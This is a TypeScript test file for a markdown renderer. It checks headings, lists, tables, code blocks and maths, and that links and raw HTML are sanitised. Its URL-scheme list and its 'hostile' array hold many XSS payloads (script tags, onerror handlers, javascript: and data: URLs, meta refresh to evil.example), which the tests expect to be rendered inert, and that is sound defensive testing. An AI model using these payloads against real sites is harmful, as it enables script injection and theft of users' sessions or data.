import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, test } from "vitest";
import { BlockView } from "./block-view";
import { finish, noBlocks } from "./blocks";
import { documents } from "./blocks.fixtures";

const draw = (text: string) =>
  renderToStaticMarkup(
    finish(noBlocks, text).closed.map((block) => <BlockView key={block.id} token={block.token} isOpen={false} />),
  );

describe("blocks", () => {
  test("headings begin at h3", () => {
    expect(draw("# A\n\n## B\n\n### C\n\n#### D\n\n###### E")).toBe(
      '<h3 dir="auto">A</h3><h3 dir="auto">B</h3><h4 dir="auto">C</h4><h5 dir="auto">D</h5><h6 dir="auto">E</h6>',
    );
  });

  test("nested lists keep their order, numbers and tasks", () => {
    const html = draw("3. three\n   - a\n   - b\n4. four\n\n- [x] done\n- [ ] open");
    expect(html).toContain(
      '<ol dir="auto" start="3"><li dir="auto">three<ul dir="auto"><li dir="auto">a</li><li dir="auto">b</li></ul></li>',
    );
    expect(html).toContain(
      '<li dir="auto" class="task"><input type="checkbox" disabled="" readOnly="" aria-label="Done" checked=""/>done</li>',
    );
    expect(html).toContain('aria-label="Open"');
  });

  test("a table has its figure, alignment and both ways to copy", () => {
    const html = draw("| Pool | p99 |\n|---|--:|\n| 24 × 20 | **140** ms |\n");
    expect(html).toContain('<figure class="block">');
    expect(html).toContain('aria-label="Copy as CSV"');
    expect(html).toContain('aria-label="Copy"');
    expect(html).toContain("Table, 1 row<");
    expect(html).toContain('<th dir="auto" class="r" scope="col">p99</th>');
    expect(html).toContain('<td dir="auto" class="r"><strong>140</strong> ms</td>');
  });

  test("code is text, left to right, with its language and three buttons", () => {
    const html = draw("```ts title=add.ts\nconst a = 1 < 2 && '<b>';\n```");
    expect(html).toContain("const a = 1 &lt; 2 &amp;&amp; &#x27;&lt;b&gt;&#x27;;");
    expect(html).toContain('<pre dir="ltr"');
    expect(html).toContain("add.ts");
    for (const name of ["Wrap lines", "Download", "Copy"]) expect(html).toContain(`aria-label="${name}"`);
  });

  test("long code is drawn in groups of lines that join to the same text", () => {
    const code = Array.from({ length: 130 }, (_, line) => `line ${line}`).join("\n");
    const html = draw(`\`\`\`\n${code}\n\`\`\``);
    expect(html.match(/class="lines"/g)).toHaveLength(4);
    expect(/<code>(.*)<\/code>/s.exec(html)?.[1]?.replace(/<[^>]+>/g, "")).toBe(code);
  });

  test("character references are characters, except in code", () => {
    expect(draw("a &amp; b &lt;i&gt; &#39;c&#39; &eacute; `&amp;`")).toBe(
      '<p dir="auto">a &amp; b &lt;i&gt; &#x27;c&#x27; &amp;eacute; <code dir="auto">&amp;amp;</code></p>',
    );
  });

  test("money is not mathematics", () => {
    expect(draw("It costs $5 and $10, or US$3–$4.")).not.toContain("math");
    expect(draw("Load $L = \\lambda W$ is")).toContain('class="math"');
    expect(draw("$$\nx\n$$")).toContain('class="math display"');
    expect(draw("so \\(a\\) and \\[b\\]")).toContain('<code class="math-source">\\(a\\)</code>');
  });

  test("every document can be drawn", () => {
    for (const text of Object.values(documents)) expect(draw(text).length).toBeGreaterThan(0);
  });

  test("depth is bounded", () => {
    expect(() => draw("> ".repeat(5_000))).not.toThrow();
    expect(() => draw("- ".repeat(5_000))).not.toThrow();
    expect(() => draw(`${"[".repeat(5_000)}a${"](http://a.example)".repeat(5_000)}`)).not.toThrow();
  });
});

describe("links and images", () => {
  test("show their host and tell it nothing", () => {
    expect(draw("[the docs](https://example.org/a?b=1&amp;c=2 'Title')")).toBe(
      '<p dir="auto"><a href="https://example.org/a?b=1&amp;c=2" target="_blank" rel="noopener noreferrer nofollow" title="Title">the docs</a><span class="link-host"> (example.org)</span></p>',
    );
    expect(draw("https://example.org/x")).not.toContain("link-host");
    expect(draw("[b](https://trusted.example@evil.example/)")).toContain("(evil.example)");
    expect(draw("<a@example.org>")).toContain('href="mailto:a@example.org"');
  });

  test("an image is a button until it is asked for", () => {
    const html = draw("![A chart](https://example.org/c.png?secret=1)");
    expect(html).not.toContain("<img");
    expect(html).not.toContain("secret");
    expect(html).toContain("Load image from example.org: A chart");
  });

  test("an image in a link is its text", () => {
    expect(draw("[![badge](https://a.example/b.svg)](https://example.org)")).toContain(">badge</a>");
  });

  test.each([
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java&#x09;script:alert(1)",
    "&#x6a;avascript:alert(1)",
    "&#106;avascript&colon;alert(1)",
    "%6aavascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD4=",
    "blob:https://example.org/1",
    "file:///etc/passwd",
    "//evil.example/x",
    "/c/other",
    "?m=1",
    "#top",
    "\\\\evil.example",
    "intent://x#Intent;end",
    "view-source:https://example.org",
    "filesystem:https://example.org/t",
    "about:blank",
  ])("%s is not followed, as link, autolink, reference or image", (address) => {
    const html = draw(
      `[a](${address}) [b](<${address}> "t") <${address}> ![c](${address}) ![d](<${address}>)\n\n[r] ![r]\n\n[r]: <${address}>`,
    );
    expect(html).not.toMatch(/<(a|img|button)\b/);
  });
});

const hostile = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<img src=x onerror=alert(1)>",
  "<img/src='x'/onerror=alert(1)//",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x></svg>",
  "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
  "<iframe src=javascript:alert(1)></iframe>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<object data=javascript:alert(1)>",
  "<embed src=javascript:alert(1)>",
  "<a href=javascript:alert(1)>x</a>",
  "<a href='https://evil.example' ping='https://evil.example'>x</a>",
  "<form action=https://evil.example><input name=a><button>go</button></form>",
  "<base href=https://evil.example>",
  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
  "<link rel=stylesheet href=https://evil.example/x.css>",
  "<style>@import 'https://evil.example'</style>",
  "<body onload=alert(1)>",
  "<details open ontoggle=alert(1)>x</details>",
  "<video poster=https://evil.example/p.png><source onerror=alert(1)></video>",
  "<template><script>alert(1)</script></template>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "<!--<img src='--><img src=x onerror=alert(1)>'>",
  "<![CDATA[<img src=x onerror=alert(1)>]]>",
  "<?xml version='1.0'?><x onclick=alert(1)/>",
  "<x contenteditable onblur=alert(1)>lose focus</x>",
  "`<img src=x onerror=alert(1)>`",
  "```html\n<script>alert(1)</script>\n```",
  "```<img/src=x/onerror=alert(1)>\nx\n```",
  '~~~" onmouseover="alert(1)\nx\n~~~',
  "| <img src=x onerror=alert(1)> | b |\n|---|---|\n| <script>alert(1)</script> | c |",
  "# <img src=x onerror=alert(1)>",
  "- <img src=x onerror=alert(1)>\n  - <script>alert(1)</script>",
  "> <script>alert(1)</script>",
  "[<img src=x onerror=alert(1)>](https://example.org)",
  '[a](https://example.org/"onmouseover="alert(1))',
  "[a](https://example.org 'x\" onmouseover=\"alert(1)')",
  '!["onerror="alert(1)](https://example.org/a.png)',
  '![a](https://example.org/a.png"onerror="alert(1))',
  "$\\href{javascript:alert(1)}{x}$ $\\htmlData{onclick=alert(1)}{x}$ $\\includegraphics{https://evil.example/x.png}$",
  "$$<img src=x onerror=alert(1)>$$",
  "**<img src=x onerror=alert(1)>** ~~<script>alert(1)</script>~~",
  "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
  "[x]: javascript:alert(1)\n\n[x]",
  "</p></div></article><script>alert(1)</script>",
];

const ours =
  /^(a|b|blockquote|br|button|circle|code|del|div|em|figure|h3|h4|h5|h6|header|hr|input|li|line|ol|p|path|polyline|pre|rect|span|strong|svg|table|tbody|td|th|thead|tr|ul)$/;
const allowedAttribute =
  /^(aria-[a-z]+|checked|class|cx|cy|d|dir|disabled|fill|height|href|points|r|readonly|rel|rx|ry|scope|start|stroke|stroke-linecap|stroke-linejoin|stroke-width|tabindex|target|title|type|viewBox|width|x|x1|x2|xmlns|y|y1|y2)$/i;

describe("hostile text is text", () => {
  test.each(hostile)("%s", (text) => {
    // Cut at every byte as well: half a tag must be as harmless as a whole one.
    for (let end = 1; end <= text.length; end++) expectInert(draw(text.slice(0, end)));
    expectInert(draw(`before\n\n${text}\n\nafter`));
  });
});

function expectInert(html: string): void {
  for (const [, name = "", attributes = ""] of html.matchAll(
    /<([a-zA-Z][\w-]*)((?:\s+[\w:-]+(?:="[^"]*")?)*)\s*\/?>/g,
  )) {
    expect(name).toMatch(ours);
    for (const [, attribute = ""] of attributes.matchAll(/\s([\w:-]+)(?:="[^"]*")?/g))
      expect(attribute).toMatch(allowedAttribute);
    const href = /\shref="([^"]*)"/.exec(attributes)?.[1];
    if (href !== undefined) expect(href).toMatch(/^(https?:|mailto:)/);
  }
  // Whatever is not one of our elements has been escaped.
  expect(html.replace(/<\/?[a-zA-Z][\w-]*(?:\s+[\w:-]+(?:="[^"]*")?)*\s*\/?>/g, "")).not.toContain("<");
}
